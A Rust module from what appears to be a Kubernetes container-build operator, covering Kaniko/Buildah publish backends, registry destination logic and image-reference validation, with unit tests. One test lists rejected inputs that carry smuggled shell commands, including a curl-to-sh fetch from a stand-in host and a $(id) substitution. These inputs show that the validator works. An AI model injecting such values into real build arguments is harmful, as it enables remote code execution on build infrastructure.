//! Publish backends.
//!
//! A publish strategy decides which build tool runs and with which
//! arguments. It never decides where the build executes; that belongs to
//! the build strategy, which consumes the [`BuildTool`] produced here.

mod buildah;
mod kaniko;

use container_builder_api::{ContainerBuild, PublishStrategy, RegistrySpec};
use k8s_openapi::api::core::v1::EnvVar;
use regex::Regex;

use crate::bundle::{context_dir, docker_config_dir};
use crate::config::BuilderConfig;
use crate::{BuildError, Result};

/// `[domain/]path[:tag][@digest]` with lowercase path components.
const IMAGE_REFERENCE: &str = concat!(
    r"^(?:(?:localhost|[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?",
    r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?)*)(?::[0-9]+)?/)?",
    r"[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*",
    r"(?:/[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*)*",
    r"(?::[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?",
    r"(?:@[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,})?$",
);

const MAX_IMAGE_NAME_LENGTH: usize = 255;

/// The process a build workload runs.
#[derive(Debug, Clone, PartialEq)]
pub struct BuildTool {
    /// Container image providing the tool.
    pub image: String,
    /// Entrypoint override; empty keeps the image entrypoint.
    pub command: Vec<String>,
    /// Process arguments.
    pub args: Vec<String>,
    /// Environment variables.
    pub env: Vec<EnvVar>,
    /// Whether the tool needs a privileged container.
    pub privileged: bool,
}

/// Inputs shared by every publish backend.
struct PublishContext<'a> {
    build: &'a ContainerBuild,
    context_dir: String,
    docker_config_dir: Option<String>,
    destination: String,
}

impl<'a> PublishContext<'a> {
    fn new(build: &'a ContainerBuild) -> Self {
        Self {
            build,
            context_dir: context_dir(build),
            docker_config_dir: docker_config_dir(build),
            destination: destination(&build.spec.image, &build.spec.platform.spec.registry),
        }
    }

    fn registry(&self) -> &RegistrySpec {
        &self.build.spec.platform.spec.registry
    }
}

/// Image of the tool implementing `strategy`.
#[must_use]
pub fn tool_image(strategy: PublishStrategy, config: &BuilderConfig) -> String {
    match strategy {
        PublishStrategy::Kaniko => config.kaniko_executor_image.clone(),
        PublishStrategy::Buildah => config.buildah_image.clone(),
    }
}

/// The tool invocation that builds and pushes `build`'s image.
#[must_use]
pub fn build_tool(build: &ContainerBuild) -> BuildTool {
    let ctx = PublishContext::new(build);
    match build.spec.publish_strategy {
        PublishStrategy::Kaniko => kaniko::build_tool(&ctx),
        PublishStrategy::Buildah => buildah::build_tool(&ctx),
    }
}

/// Image reference to push to.
///
/// Images that already name a registry host are used as-is; others are
/// prefixed with the platform registry address when one is configured.
#[must_use]
pub fn destination(image: &str, registry: &RegistrySpec) -> String {
    match &registry.address {
        Some(address) if !has_registry_host(image) => {
            format!("{}/{image}", address.trim_end_matches('/'))
        }
        _ => image.to_string(),
    }
}

/// Check that `image` is a well-formed image reference.
///
/// # Errors
///
/// Returns a configuration error for anything the registry would refuse,
/// including whitespace and shell metacharacters.
pub fn validate_image(image: &str) -> Result<()> {
    let pattern = Regex::new(IMAGE_REFERENCE)
        .map_err(|e| BuildError::Config(format!("image reference pattern: {e}")))?;
    let name_len = image
        .split_once('@')
        .map_or(image, |(name, _)| name)
        .len();
    if name_len > MAX_IMAGE_NAME_LENGTH || !pattern.is_match(image) {
        return Err(BuildError::Config(format!(
            "invalid image reference: {image:?}"
        )));
    }
    Ok(())
}

fn has_registry_host(image: &str) -> bool {
    image.split_once('/').is_some_and(|(first, _)| {
        first.contains('.') || first.contains(':') || first == "localhost"
    })
}

fn env_var(name: &str, value: impl Into<String>) -> EnvVar {
    EnvVar {
        name: name.to_string(),
        value: Some(value.into()),
        ..Default::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::test_build;

    fn registry(address: Option<&str>) -> RegistrySpec {
        RegistrySpec {
            address: address.map(ToString::to_string),
            ..Default::default()
        }
    }

    #[test]
    fn destination_keeps_qualified_images() {
        let reg = registry(Some("registry.local:5000"));
        assert_eq!(
            destination("quay.io/x/build:latest", &reg),
            "quay.io/x/build:latest"
        );
        assert_eq!(
            destination("localhost/build:latest", &reg),
            "localhost/build:latest"
        );
        assert_eq!(
            destination("myhost:5000/build", &reg),
            "myhost:5000/build"
        );
    }

    #[test]
    fn destination_prefixes_bare_images() {
        assert_eq!(
            destination("x/build:latest", &registry(Some("registry.local:5000/"))),
            "registry.local:5000/x/build:latest"
        );
        assert_eq!(
            destination("build:latest", &registry(Some("registry.local"))),
            "registry.local/build:latest"
        );
        assert_eq!(destination("build:latest", &registry(None)), "build:latest");
    }

    #[test]
    fn validate_image_accepts_references() {
        for image in [
            "build",
            "build:latest",
            "x/build:1.0.0-rc_1",
            "quay.io/kiegroup/buildexample:latest",
            "localhost/build",
            "registry.local:5000/team/build:v2",
            "docker.io/library/alpine@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        ] {
            assert!(validate_image(image).is_ok(), "{image}");
        }
    }

    #[test]
    fn validate_image_rejects_malformed_references() {
        for image in [
            "",
            "Build",
            "quay.io/x/build:latest; curl evil.sh | sh #",
            "quay.io/x/build:$(id)",
            "quay.io/x/build latest",
            "quay.io/x/build:",
            "quay.io//build",
            "-build",
            "build:tag\n",
            "build@sha256:abc",
        ] {
            assert!(validate_image(image).is_err(), "{image}");
        }

        let long = format!("quay.io/{}", "a".repeat(MAX_IMAGE_NAME_LENGTH));
        assert!(validate_image(&long).is_err());
    }

    #[test]
    fn build_tool_is_deterministic() {
        let mut build = test_build();
        assert_eq!(build_tool(&build), build_tool(&build));

        let kaniko = build_tool(&build);
        build.spec.publish_strategy = PublishStrategy::Buildah;
        assert_ne!(build_tool(&build), kaniko);
    }

    #[test]
    fn tool_image_follows_strategy() {
        let config = BuilderConfig::default();
        assert_eq!(
            tool_image(PublishStrategy::Kaniko, &config),
            config.kaniko_executor_image
        );
        assert_eq!(
            tool_image(PublishStrategy::Buildah, &config),
            config.buildah_image
        );
    }
}
